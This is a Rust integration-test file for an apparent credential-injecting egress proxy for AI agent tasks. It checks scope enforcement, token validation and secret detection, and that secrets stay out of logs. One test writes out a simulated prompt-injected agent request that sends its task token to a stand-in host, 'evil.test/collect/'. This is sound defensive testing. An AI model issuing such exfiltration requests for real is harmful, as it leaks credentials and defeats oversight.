    assert_eq!(refused.len(), 1, "{records:?}");
    assert_eq!(refused[0].host.as_deref(), Some("internal.test"));
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cleartext_credentials_only_travel_to_loopback() {
    let rules = "    - host: lan.test\n      port: 8080\n      schemes: [http]\n      credential: api\n      allow_private: true\n    - host: public.test\n      port: 8080\n      schemes: [http]\n      credential: api\n";
    let s = setup_with(rules, "").await;
    // A private address, allowed by the rule, but not loopback: the
    // credential would cross the network in cleartext.
    s.env.resolver.map("lan.test", "10.255.255.1");
    let request = format!(
        "GET http://lan.test:8080/x HTTP/1.1\r\nHost: lan.test:8080\r\nProxy-Authorization: {}\r\n\r\n",
        s.auth
    );
    let (_stream, resp) = send_plain(&s.env, request.as_bytes()).await;
    assert_refused(&resp, 403, "destination_refused");
    // Without allow_private a cleartext credential is refused outright,
    // before any lookup.
    let before = s.env.resolver.count();
    let request = format!(
        "GET http://public.test:8080/x HTTP/1.1\r\nHost: public.test:8080\r\nProxy-Authorization: {}\r\n\r\n",
        s.auth
    );
    let (_stream, resp) = send_plain(&s.env, request.as_bytes()).await;
    assert_refused(&resp, 403, "cleartext_injection_refused");
    assert_eq!(s.env.resolver.count(), before);
    s.assert_no_secrets(&resp.text()).await;
    s.assert_upstreams_untouched();
    s.env.stop().await;
}

// Denied means no DNS lookup and no credential fetch.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn out_of_scope_connect_costs_no_lookup() {
    let s = setup().await;
    for target in ["evil.test:443", "api.test:1", "example.com:443"] {
        let (_stream, resp) = connect_raw(&s.env, Some(&s.auth), target).await;
        assert_refused(&resp, 403, "no_matching_rule");
    }
    assert_eq!(s.env.resolver.count(), 0);
    s.assert_upstreams_untouched();
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn denied_inner_request_costs_no_lookup_and_no_fetch() {
    let files = TempDir::new();
    let fetches = files.path().join("fetches.log");
    let minted = test_secret();
    let extra = exec_credential("minted", &fetches, &minted);
    let upstream_ca = Arc::new(CertificateAuthority::generate().unwrap());
    let upstream = Upstream::start_tls(upstream_ca.clone(), "api.test", echo_handler()).await;
    let config = format!(
        r#"
credentials:{extra}
scopes:
  api:
    - host: api.test
      port: {port}
      methods: [GET]
      paths: ["/v1/allowed"]
      credential: minted
      allow_private: true
"#,
        port = upstream.port()
    );
    let env = Env::start_trusting(upstream_ca, &config, &[]).await;
    env.resolver.map("api.test", "127.0.0.1");
    let (id, token) = env.start_task(&["api"]);
    let auth = proxy_auth(&id, &token);
    let authority = format!("api.test:{}", upstream.port());
    let mut tls = tunnel(&env, &auth, &authority, "api.test").await.unwrap();
    for (method, path) in [
        ("GET", "/v1/denied"),
        ("POST", "/v1/allowed"),
        ("GET", "/v1/allowed/../denied"),
    ] {
        let request =
            format!("{method} {path} HTTP/1.1\r\nHost: {authority}\r\nContent-Length: 0\r\n\r\n");
        let resp = exchange(&mut tls, request.as_bytes()).await;
        assert_refused(&resp, 403, "no_matching_rule");
    }
    assert_eq!(env.resolver.count(), 0, "a denied request was resolved");
    assert!(!fetches.exists(), "a denied request fetched a credential");
    assert!(upstream.received().is_empty());

    // The same connection, an allowed request: now the lookup and the fetch
    // happen, so the checks above can fail.
    let request = format!("GET /v1/allowed HTTP/1.1\r\nHost: {authority}\r\n\r\n");
    let resp = exchange(&mut tls, request.as_bytes()).await;
    assert_eq!(resp.status, 200, "{}", resp.text());
    assert_eq!(env.resolver.count(), 1);
    let log = std::fs::read_to_string(&fetches).unwrap();
    assert_eq!(log.lines().count(), 1, "{log}");
    let got = upstream.received();
    assert_eq!(got.len(), 1);
    assert_eq!(
        got[0].header("authorization"),
        vec![format!("Bearer {minted}").as_str()]
    );
    let text = env.log_text().await;
    for secret in [&minted, &token] {
        assert!(!resp.text().contains(secret.as_str()));
        assert!(!text.contains(secret.as_str()));
    }
    env.stop().await;
}

// Task tokens: ended, someone else's, garbage.

fn assert_proxy_auth_required(resp: &RawResponse, reason: &str) {
    assert_refused(resp, 407, reason);
    assert!(
        resp.header("proxy-authenticate")
            .is_some_and(|v| v.starts_with("Basic")),
        "{}",
        resp.text()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ended_task_token_is_refused_and_its_tunnels_close() {
    let s = setup().await;
    let mut open = s.open_tunnel().await;
    let resp = exchange(&mut open, &s.inner_request("GET", "/v1/items", "")).await;
    assert_eq!(resp.status, 200);
    s.env.end_task(&s.id).await;
    expect_closed(&mut open, Duration::from_secs(2))
        .await
        .unwrap_or_else(|e| panic!("the ended task's tunnel is still open: {e}"));

    let (_stream, resp) = send_plain(&s.env, &s.plain_request("GET", "/v1/items", "")).await;
    assert_proxy_auth_required(&resp, "task_ended");
    let (_stream, resp) = connect_raw(&s.env, Some(&s.auth), &s.tls_authority()).await;
    assert_proxy_auth_required(&resp, "task_ended");
    let bearer = format!("Bearer {}", s.token);
    let (_stream, resp) = connect_raw(&s.env, Some(&bearer), &s.tls_authority()).await;
    assert_proxy_auth_required(&resp, "task_ended");
    assert_eq!(
        s.upstream_received().len(),
        1,
        "only the request before the end"
    );
    s.assert_no_secrets(&resp.text()).await;
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_task_token_grants_only_its_own_scopes() {
    let other = Upstream::start_tls(
        Arc::new(CertificateAuthority::generate().unwrap()),
        "other.test",
        ok_handler(),
    )
    .await;
    let scope_b = format!(
        "  other:\n    - host: other.test\n      port: {}\n      allow_private: true\n",
        other.port()
    );
    let s = setup_with("", &format!("\n{scope_b}")).await;
    s.env.resolver.map("other.test", "127.0.0.1");
    let (id_b, token_b) = s.env.start_task(&["other"]);
    let target = format!("other.test:{}", other.port());

    // Task A (scope api) asks for task B's host.
    let (_stream, resp) = connect_raw(&s.env, Some(&s.auth), &target).await;
    assert_refused(&resp, 403, "no_matching_rule");
    // B's id with A's token, and A's id with B's token: neither is a task.
    for (id, token) in [(&id_b, &s.token), (&s.id, &token_b)] {
        let (_stream, resp) = connect_raw(&s.env, Some(&proxy_auth(id, token)), &target).await;
        assert_proxy_auth_required(&resp, "task_token_invalid");
        let (_stream, resp) =
            connect_raw(&s.env, Some(&proxy_auth(id, token)), &s.tls_authority()).await;
        assert_proxy_auth_required(&resp, "task_token_invalid");
    }
    assert!(other.received().is_empty());
    assert_eq!(s.env.resolver.count(), 0);
    let log = s.env.log_text().await;
    assert!(!log.contains(&token_b));
    s.assert_no_secrets(&resp.text()).await;
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn garbage_task_tokens_are_refused() {
    let s = setup().await;
    let garbage = test_secret();
    let values = [
        format!("Basic {}", STANDARD.encode(format!("{}:{garbage}", s.id))),
        format!("Basic {}", STANDARD.encode(format!("nobody:{}", s.token))),
        format!("Bearer {garbage}"),
        format!("Bearer cgt_{garbage}"),
        "Basic !!!not-base64!!!".to_string(),
        format!("Digest {garbage}"),
        format!("Basic {}", STANDARD.encode(&garbage)),
    ];
    for value in &values {
        let (_stream, resp) = connect_raw(&s.env, Some(value), &s.tls_authority()).await;
        assert_eq!(resp.status, 407, "{value}: {}", resp.text());
        assert!(resp.header("proxy-authenticate").is_some());
        let a = s.plain_authority();
        let request = format!(
            "GET http://{a}/v1/items HTTP/1.1\r\nHost: {a}\r\nProxy-Authorization: {value}\r\n\r\n"
        );
        let (_stream, resp) = send_plain(&s.env, request.as_bytes()).await;
        assert_eq!(resp.status, 407, "{value}: {}", resp.text());
        assert!(!resp.text().contains(&garbage));
    }
    // Without any token the 407 is a challenge the client may answer on the
    // same connection: a CONNECT's has no body.
    let (_, resp) = connect_raw(&s.env, None, &s.tls_authority()).await;
    assert_eq!(resp.status, 407, "{}", resp.text());
    assert_eq!(resp.reason(), Some("task_token_missing"));
    assert!(resp.body.is_empty(), "{}", resp.text());
    assert!(resp
        .header("proxy-authenticate")
        .is_some_and(|v| v.starts_with("Basic")));
    s.assert_upstreams_untouched();
    assert_eq!(s.env.resolver.count(), 0);
    assert!(!s.env.log_text().await.contains(&garbage));
    s.assert_no_secrets(&resp.text()).await;
    s.env.stop().await;
}

// Methods credgate never forwards.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn trace_is_refused_plain_and_in_tunnel() {
    let s = setup().await;
    let (_stream, resp) = send_plain(&s.env, &s.plain_request("TRACE", "/v1/items", "")).await;
    assert_refused(&resp, 405, "method_refused");
    let (_stream, resp) = send_plain(&s.env, &s.plain_request("trace", "/v1/items", "")).await;
    assert!(matches!(resp.status, 400 | 405), "{}", resp.text());
    let mut tls = s.open_tunnel().await;
    let resp = exchange(&mut tls, &s.inner_request("TRACE", "/v1/items", "")).await;
    assert_refused(&resp, 405, "method_refused");
    s.assert_upstreams_untouched();
    assert_eq!(s.env.resolver.count(), 0);
    s.assert_no_secrets(&resp.text()).await;
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connect_inside_a_tunnel_is_refused() {
    let s = setup().await;
    let mut tls = s.open_tunnel().await;
    let target = s.plain_authority();
    let request = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
    let resp = exchange(&mut tls, request.as_bytes()).await;
    assert_refused(&resp, 405, "method_refused");
    expect_closed(&mut tls, Duration::from_secs(2))
        .await
        .unwrap();
    s.assert_upstreams_untouched();
    assert_eq!(s.env.resolver.count(), 0);
    s.env.stop().await;
}

// Anything but TLS after CONNECT.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn non_tls_bytes_after_connect_are_refused() {
    let s = setup().await;
    let inner = String::from_utf8(s.inner_request("GET", "/v1/items", "")).unwrap();
    // Read the 200 first, then speak cleartext; and all in one write.
    let (mut stream, resp) = connect_raw(&s.env, Some(&s.auth), &s.tls_authority()).await;
    assert_eq!(resp.status, 200, "{}", resp.text());
    stream.write_all(inner.as_bytes()).await.unwrap();
    expect_closed(&mut stream, Duration::from_secs(2))
        .await
        .unwrap_or_else(|e| panic!("cleartext tunnel kept open: {e}"));

    let target = s.tls_authority();
    let both = format!(
        "CONNECT {target} HTTP/1.1\r\nHost: {target}\r\nProxy-Authorization: {}\r\n\r\n{inner}",
        s.auth
    );
    let mut stream = TcpStream::connect(s.env.proxy).await.unwrap();
    stream.write_all(both.as_bytes()).await.unwrap();
    let resp = read_response(&mut stream, Duration::from_secs(5))
        .await
        .unwrap();
    assert_eq!(resp.status, 200, "{}", resp.text());
    expect_closed(&mut stream, Duration::from_secs(2))
        .await
        .unwrap();

    s.assert_upstreams_untouched();
    let records = s
        .env
        .wait_for_records(2, |r| r.reason == Some(Reason::TunnelRefused))
        .await;
    let refused = records
        .iter()
        .filter(|r| r.reason == Some(Reason::TunnelRefused))
        .count();
    assert_eq!(refused, 2, "{records:?}");
    assert_eq!(
        s.env.request_records().await.len(),
        2,
        "nothing inside was parsed as a request"
    );
    assert_eq!(s.env.resolver.count(), 0);
    s.env.stop().await;
}

// Secrets the agent sends itself.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_in_the_request_are_refused() {
    let s = setup().await;
    let query_secret = test_secret();
    let github = format!("ghp_{}", random_hex(18));
    let cases = [
        (
            format!("/v1/items?page=1&access_token={query_secret}"),
            String::new(),
            "secret_query_param",
        ),
        (
            "/v1/items".to_string(),
            format!("X-Custom: {github}\r\n"),
            "github_token",
        ),
    ];
    let body = format!("{{\"note\":\"{github}\"}}");
    let body_headers = format!(
        "Content-Type: application/json\r\nContent-Length: {}\r\n",
        body.len()
    );
    for (path, headers, rule) in &cases {
        for in_tunnel in [false, true] {
            let resp = if in_tunnel {
                let mut tls = s.open_tunnel().await;
                exchange(&mut tls, &s.inner_request("GET", path, headers)).await
            } else {
                send_plain(&s.env, &s.plain_request("GET", path, headers))
                    .await
                    .1
            };
            assert_refused(&resp, 403, "secret_in_request");
            for value in [&query_secret, &github] {
                assert!(!resp.text().contains(value.as_str()), "{}", resp.text());
            }
            let records = s.env.request_records().await;
            let last = records.iter().rev().find(|r| r.method.is_some()).unwrap();
            assert_eq!(last.reason, Some(Reason::SecretInRequest));
            assert_eq!(last.findings, vec![rule.to_string()], "{last:?}");
        }
    }
    // In the body.
    for in_tunnel in [false, true] {
        let resp = if in_tunnel {
            let mut request = s.inner_request("POST", "/v1/items", &body_headers);
            request.extend_from_slice(body.as_bytes());
            let mut tls = s.open_tunnel().await;
            exchange(&mut tls, &request).await
        } else {
            let mut request = s.plain_request("POST", "/v1/items", &body_headers);
            request.extend_from_slice(body.as_bytes());
            send_plain(&s.env, &request).await.1
        };
        assert_refused(&resp, 403, "secret_in_request");
        assert!(!resp.text().contains(&github));
        let records = s.env.request_records().await;
        let last = records.iter().rev().find(|r| r.method.is_some()).unwrap();
        assert_eq!(last.findings, vec!["github_token".to_string()], "{last:?}");
    }
    let log = s.env.log_text().await;
    assert!(!log.contains(&query_secret), "query secret in the log");
    assert!(!log.contains(&github), "header secret in the log");
    s.assert_upstreams_untouched();
    assert_eq!(s.env.resolver.count(), 0);
    s.assert_no_secrets(&log).await;
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_are_stripped_where_the_rule_says() {
    let rule = "    - host: api.test\n      port: TLS_PORT\n      paths: [\"/v1/lenient/**\"]\n      methods: [GET]\n      credential: api\n      allow_private: true\n      on_secret: strip\n";
    let s = setup_with(rule, "").await;
    let query_secret = test_secret();
    let github = format!("ghp_{}", random_hex(18));
    let headers = format!("X-Custom: {github}\r\nX-Keep: yes\r\n");
    let path = format!("/v1/lenient/x?access_token={query_secret}&page=2");
    let mut tls = s.open_tunnel().await;
    let resp = exchange(&mut tls, &s.inner_request("GET", &path, &headers)).await;
    assert_eq!(resp.status, 200, "{}", resp.text());
    let got = s.tls.received();
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0].path_and_query, "/v1/lenient/x?page=2");
    assert!(got[0].header("x-custom").is_empty(), "{:?}", got[0]);
    assert_eq!(got[0].header("x-keep"), vec!["yes"]);
    s.assert_only_injected(&got[0]);
    let all = format!("{:?}", got[0]);
    assert!(
        !all.contains(&query_secret) && !all.contains(&github),
        "{all}"
    );
    let records = s
        .env
        .wait_for_record(|r| r.path.as_deref() == Some("/v1/lenient/x"))
        .await;
    let rec = records
        .iter()
        .find(|r| r.path.as_deref() == Some("/v1/lenient/x"))
        .unwrap_or_else(|| panic!("{records:?}"));
    assert_eq!(rec.decision, Some(Verdict::Allow));
    assert_eq!(
        rec.findings,
        vec!["github_token".to_string(), "secret_query_param".to_string()]
    );
    assert!(rec.stripped.iter().any(|h| h == "x-custom"), "{rec:?}");
    let log = s.env.log_text().await;
    assert!(!log.contains(&query_secret) && !log.contains(&github));
    s.assert_no_secrets(&resp.text()).await;
    s.env.stop().await;
}

/// A body masked by a strip rule goes on without the digests of the body
/// the agent sent: they would not match it, and would let the upstream
/// check a guess at what was masked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_masked_body_loses_the_digests_of_the_body_as_sent() {
    let rule = "    - host: api.test\n      port: TLS_PORT\n      paths: [\"/v1/lenient/**\"]\n      methods: [POST]\n      credential: api\n      allow_private: true\n      on_secret: strip\n";
    let s = setup_with(rule, "").await;
    let github = format!("ghp_{}", random_hex(18));
    let body = format!("{{\"note\":\"{github}\"}}");
    let headers = format!(
        "Content-Type: application/json\r\nContent-Length: {}\r\n\
         Content-MD5: 1B2M2Y8AsgTpgAmY7PhCfg==\r\nContent-Digest: sha-256=:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=:\r\n\
         Repr-Digest: sha-256=:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=:\r\nDigest: SHA-256=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=\r\n",
        body.len()
    );
    let mut request = s.inner_request("POST", "/v1/lenient/notes", &headers);
    request.extend_from_slice(body.as_bytes());
    let mut tls = s.open_tunnel().await;
    let resp = exchange(&mut tls, &request).await;
    assert_eq!(resp.status, 200, "{}", resp.text());
    let got = s.tls.received();
    assert_eq!(got.len(), 1, "{got:?}");
    assert!(!String::from_utf8_lossy(&got[0].body).contains(&github));
    assert_eq!(got[0].body.len(), body.len(), "masked in place");
    for digest in ["content-md5", "content-digest", "repr-digest", "digest"] {
        assert!(got[0].header(digest).is_empty(), "{digest}: {:?}", got[0]);
    }
    assert_eq!(got[0].header("content-type"), vec!["application/json"]);
    s.env.stop().await;
}

// Leaks through less obvious paths.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credential_in_a_response_header_name_is_scrubbed() {
    let secret = test_secret();
    let ca = Arc::new(CertificateAuthority::generate().unwrap());
    // Echoes the bearer token it received as a header *name* (header names
    // are lowercase tokens, which the test secret is).
    let handler: Handler = Arc::new(|r: &Received| {
        let auth = r.header("authorization").join("");
        let token = auth.trim_start_matches("Bearer ").to_string();
        let mut reply = Reply::ok("ok");
        reply.headers.push((format!("x-seen-{token}"), "1".into()));
        reply
    });
    let upstream = Upstream::start_tls(ca.clone(), "api.test", handler).await;
    let config = format!(
        "credentials:\n  api:\n    static: {{ env: API_TOKEN }}\nscopes:\n  api:\n    - host: api.test\n      port: {}\n      credential: api\n      allow_private: true\n",
        upstream.port()
    );
    let env = Env::start_trusting(ca, &config, &[("API_TOKEN", &secret)]).await;
    env.resolver.map("api.test", "127.0.0.1");
    let (id, token) = env.start_task(&["api"]);
    let target = format!("api.test:{}", upstream.port());
    let mut tls = tunnel(&env, &proxy_auth(&id, &token), &target, "api.test")
        .await
        .unwrap();
    let request = format!("GET /x HTTP/1.1\r\nHost: {target}\r\n\r\n");
    let resp = exchange(&mut tls, request.as_bytes()).await;
    assert_eq!(resp.status, 200, "{}", resp.text());
    assert_eq!(upstream.received().len(), 1);
    assert!(
        !resp.text().contains(&secret),
        "the credential reached the agent in a header name: {}",
        resp.text()
    );
    env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_tasks_credential_echoed_by_a_shared_upstream() {
    let secret_a = test_secret();
    let secret_b = test_secret();
    let ca = Arc::new(CertificateAuthority::generate().unwrap());
    // An upstream that shows every Authorization it has seen, from anyone.
    let seen: Arc<Mutex<Vec<String>>> = Arc::default();
    let log = seen.clone();
    let handler: Handler = Arc::new(move |r: &Received| {
        let mut log = log.lock().unwrap();
        log.extend(r.header("authorization").iter().map(|v| v.to_string()));
        Reply::ok(&log.join("\n"))
    });
    let upstream = Upstream::start_tls(ca.clone(), "api.test", handler).await;
    let config = format!(
        "credentials:\n  a:\n    static: {{ env: A_TOKEN }}\n  b:\n    static: {{ env: B_TOKEN }}\n\
         scopes:\n  a:\n    - host: api.test\n      port: {p}\n      credential: a\n      allow_private: true\n\
         \x20 b:\n    - host: api.test\n      port: {p}\n      credential: b\n      allow_private: true\n",
        p = upstream.port()
    );
    let env = Env::start_trusting(
        ca,
        &config,
        &[("A_TOKEN", &secret_a), ("B_TOKEN", &secret_b)],
    )
    .await;
    env.resolver.map("api.test", "127.0.0.1");
    let (id_a, token_a) = env.start_task(&["a"]);
    let (id_b, token_b) = env.start_task(&["b"]);
    let target = format!("api.test:{}", upstream.port());
    let request = format!("GET /x HTTP/1.1\r\nHost: {target}\r\n\r\n");
    let mut tls_b = tunnel(&env, &proxy_auth(&id_b, &token_b), &target, "api.test")
        .await
        .unwrap();
    let resp_b = exchange(&mut tls_b, request.as_bytes()).await;
    assert_eq!(resp_b.status, 200);
    let mut tls_a = tunnel(&env, &proxy_auth(&id_a, &token_a), &target, "api.test")
        .await
        .unwrap();
    let resp_a = exchange(&mut tls_a, request.as_bytes()).await;
    assert_eq!(resp_a.status, 200);
    assert_eq!(seen.lock().unwrap().len(), 2);
    assert!(!resp_a.text().contains(&secret_a), "{}", resp_a.text());
    assert!(
        !resp_a.text().contains(&secret_b),
        "task b's credential reached task a's agent: {}",
        resp_a.text()
    );
    env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn refused_destination_costs_no_credential_fetch() {
    let files = TempDir::new();
    let fetches = files.path().join("fetches.log");
    let minted = test_secret();
    let upstream_ca = Arc::new(CertificateAuthority::generate().unwrap());
    let upstream = Upstream::start_tls(upstream_ca.clone(), "internal.test", ok_handler()).await;
    let config = format!(
        "credentials:{}\nscopes:\n  api:\n    - host: internal.test\n      port: {}\n      credential: minted\n",
        exec_credential("minted", &fetches, &minted),
        upstream.port()
    );
    let env = Env::start_trusting(upstream_ca, &config, &[]).await;
    env.resolver.map("internal.test", "127.0.0.1");
    let (id, token) = env.start_task(&["api"]);
    let target = format!("internal.test:{}", upstream.port());
    let mut tls = tunnel(&env, &proxy_auth(&id, &token), &target, "internal.test")
        .await
        .unwrap();
    let request = format!("GET /x HTTP/1.1\r\nHost: {target}\r\n\r\n");
    let resp = exchange(&mut tls, request.as_bytes()).await;
    assert_refused(&resp, 403, "destination_refused");
    assert!(upstream.received().is_empty());
    assert!(!fetches.exists(), "a refused request fetched a credential");
    env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn task_token_in_the_url_never_reaches_the_log_or_upstream() {
    let s = setup().await;
    // A prompt-injected agent trying to send its token out: to a host
    // outside its scope (denied, but the record keeps the path), and to an
    // allowed one.
    let request = format!(
        "GET http://evil.test/collect/{} HTTP/1.1\r\nHost: evil.test\r\nProxy-Authorization: {}\r\n\r\n",
        s.token, s.auth
    );
    let (_stream, resp) = send_plain(&s.env, request.as_bytes()).await;
    assert_eq!(resp.status, 403, "{}", resp.text());
    // (The denial quoting the agent's own URL back to it is no leak; the
    // decision log is.)
    let log = s.env.log_text().await;
    assert!(
        !log.contains(&s.token),
        "the task token is in the decision log"
    );
    let allowed = s.plain_request("GET", &format!("/v1/repos/acme/{}", s.token), "");
    let (_stream, resp) = send_plain(&s.env, &allowed).await;
    assert_refused(&resp, 403, "secret_in_request");
    s.assert_upstreams_untouched();
    assert!(!s.env.log_text().await.contains(&s.token));
    s.env.stop().await;
}
